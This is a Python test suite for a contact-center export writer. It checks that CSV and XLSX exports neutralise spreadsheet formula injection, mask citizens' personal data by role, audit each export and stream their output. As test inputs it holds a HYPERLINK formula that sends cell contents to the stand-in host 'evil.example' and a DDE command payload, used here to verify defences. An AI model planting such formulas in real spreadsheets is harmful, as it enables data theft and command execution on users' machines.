"""The one export writer: no formula from citizen input in CSV or XLSX (OWASP's
rule), streamed (the first bytes leave before the last row is read), masked per
role, unmasked only for a supervisor with a reason, audited with the filter; the
monthly report goes through it too."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import date

from aiohttp import web
from openpyxl import load_workbook
from sqlalchemy import select, text

from contact_center.db.models import AuditEntry
from contact_center.exports import Column, ExportRequest, export_response, neutralise
from contact_center.exports.stream import NAME, PHONE
from contact_center.stats.db import read_snapshot
from contact_center.stats.report.files import render
from contact_center.web.permissions import permission
from tests.plugins.console import login

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bax")'
TODAY_ARGS = {}


def test_owasp_rule():
    for bad in ("=1+2", "+994501234567", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(bad) == "'" + bad
    assert neutralise("Aysel") == "Aysel" and neutralise(-5) == -5 and neutralise(None) is None


async def _seed_callback(db, name: str, note: str) -> int:
    async with db.begin() as conn:
        return (await conn.execute(text(
            "INSERT INTO callbacks (phone, citizen_name, note, preferred_time, source, status, due_at, created_at, attempts) "
            "VALUES ('+994501234567', :n, :note, '@10:00', 'web', 'open', now() + interval '1 hour', now(), 0) "
            "RETURNING id"), {"n": name, "note": note})).scalar_one()


def _formulas(xlsx: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(xlsx))
    return [f"{ws.title}!{c.coordinate}" for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]


async def test_a_citizen_name_never_becomes_a_formula(client, make_user, db, sessionmaker):
    await make_user("rena", role="supervisor")
    await login(client, "rena")
    await _seed_callback(db, HYPERLINK, "=cmd|' /C calc'!A0")
    query = {"unmasked": "1", "reason": "Müraciət № 42 üzrə yoxlama"}
    xlsx = await client.get("/console/callback-requests", params={**query, "format": "xlsx"})
    assert xlsx.status == 200, await xlsx.text()
    body = await xlsx.read()
    assert _formulas(body) == []
    rows = list(load_workbook(io.BytesIO(body)).active.iter_rows(values_only=True))
    header, first = rows[0], rows[1]
    assert first[header.index("vətəndaş")] == "'" + HYPERLINK  # shown as text, whole
    assert first[header.index("qeyd")] == "'=cmd|' /C calc'!A0"
    assert first[header.index("telefon")] == "'+994 50 123 45 67"  # unmasked (with a reason), neutralised
    assert first[header.index("üstünlük_verdiyi_vaxt")] == "'@10:00"
    resp = await client.get("/console/callback-requests", params={**query, "format": "csv"})
    data = list(csv.reader(io.StringIO((await resp.read()).decode("utf-8-sig"))))
    assert data[1][data[0].index("vətəndaş")] == "'" + HYPERLINK
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in data for cell in row)


async def test_the_monthly_report_has_no_formula_from_citizen_input(stats_data, settings, db):
    agent = await stats_data.user("1001")
    call = await stats_data.call("2024-08-05 10:00:00", wait=5, talk=60, agent="1001")
    reg = await stats_data.register(agent, call_id=call)
    async with db.begin() as conn:
        await conn.execute(text("UPDATE call_registrations SET citizen_name = :n, note = :m WHERE id = :i"),
                           {"n": HYPERLINK, "m": HYPERLINK, "i": reg})
    async with read_snapshot(db) as conn:
        buf = io.BytesIO()
        await render(conn, settings, date(2024, 8, 1), "xlsx", buf)
    assert _formulas(buf.getvalue()) == []
    sheet = load_workbook(io.BytesIO(buf.getvalue()))["Qeydiyyata alınmış zənglər"]
    header, row = [list(r) for r in sheet.iter_rows(max_row=2, values_only=True)]
    assert row[header.index("telefon")] == "'+994 50 ••• •• 67"  # the report masks, the writer neutralises
    assert row[header.index("vətəndaş")].startswith("'=••••")
    assert row[header.index("qeyd")] == "'" + HYPERLINK


async def test_lists_export_their_filter_masked_and_audited(client, make_user, db, sessionmaker):
    await make_user("rena", role="supervisor")
    await login(client, "rena")
    await _seed_callback(db, "Günel Əliyeva", "")
    async with db.begin() as conn:
        await conn.execute(text(
            "INSERT INTO callbacks (phone, citizen_name, note, source, status, due_at, created_at, attempts) "
            "VALUES ('+994551112233', 'Kamran', '', 'bot', 'open', now(), now(), 0)"))
    resp = await client.get("/console/callback-requests", params={"source": "web", "format": "csv"})
    assert resp.status == 200
    assert resp.headers["Content-Disposition"].startswith("attachment;")
    rows = list(csv.DictReader(io.StringIO((await resp.read()).decode("utf-8-sig"))))
    assert len(rows) == 1  # exactly the list's filter: the web request, not the bot's
    assert rows[0]["telefon"] == "'+994 50 ••• •• 67" and rows[0]["vətəndaş"] == "G•••• Ə••••"
    no_reason = await client.get("/console/callback-requests", params={"format": "csv", "unmasked": "1"})
    assert no_reason.status == 422
    bad = await client.get("/console/callback-requests", params={"format": "pdf"})
    assert bad.status == 422
    async with sessionmaker() as session:
        [entry] = (await session.scalars(select(AuditEntry).where(AuditEntry.action == "export"))).all()
    assert entry.object_type == "callbacks"
    assert entry.details["filter"]["source"] == "web" and entry.details["unmasked"] is False
    assert "+99450" not in str(entry.details)


async def test_agents_export_their_own_registrations_masked_never_unmasked(client, make_user, db, sessionmaker):
    agent = await make_user("aysel", extension="1001")
    other = await make_user("kamran", extension="1002")
    async with db.begin() as conn:
        for user, phone in ((agent, "+994501111111"), (other, "+994502222222")):
            await conn.execute(text(
                "INSERT INTO call_registrations (channel, agent_id, phone, citizen_name, direction, call_type, "
                "district, outcome, note, occurred_at) VALUES ('phone', :a, :p, 'Ad Soyad', 'employment', "
                "'information', 'baku_xetai', 'fully_answered', '', now())"), {"a": user.id, "p": phone})
    await login(client, "aysel")
    resp = await client.get("/console/calls", params={"format": "xlsx", "agent": str(other.id)})
    rows = list(load_workbook(io.BytesIO(await resp.read())).active.iter_rows(values_only=True))
    assert len(rows) == 2  # their own only, whatever the agent filter says
    assert rows[1][rows[0].index("telefon")] == "'+994 50 ••• •• 11"
    refused = await client.get("/console/calls", params={"format": "csv", "unmasked": "1", "reason": "x" * 20})
    assert refused.status == 422


async def test_the_response_starts_before_the_last_row_is_read(aiohttp_client):
    """The rows come from a source that waits until the client has received the
    first bytes: a writer that buffered the whole file would never send them."""
    for fmt in ("csv", "xlsx"):
        first_bytes = asyncio.Event()

        async def rows():
            yield [(1, "+994501234567", "Aysel")]
            await asyncio.wait_for(first_bytes.wait(), 10)
            for start in range(2, 20_002, 2000):
                yield [(i, "+994501234567", "Aysel") for i in range(start, start + 2000)]

        @permission("public")
        async def handler(request: web.Request) -> web.StreamResponse:
            columns = (Column("id"), Column("telefon", PHONE), Column("ad", NAME))
            return await export_response(request, "test", "Test", columns, rows(), ExportRequest(fmt))

        app = web.Application()
        app.router.add_get("/export", handler)
        client = await aiohttp_client(app)
        resp = await client.get("/export")
        assert resp.status == 200
        head = await resp.content.readany()
        assert head  # arrived while the source still held back its other rows
        first_bytes.set()
        body = head + await resp.read()
        if fmt == "csv":
            lines = body.decode("utf-8-sig").splitlines()
            assert len(lines) == 1 + 20_001 and lines[1] == "1,'+994 50 ••• •• 67,A••••"
        else:
            ws = load_workbook(io.BytesIO(body)).active
            assert ws.max_row == 1 + 20_001
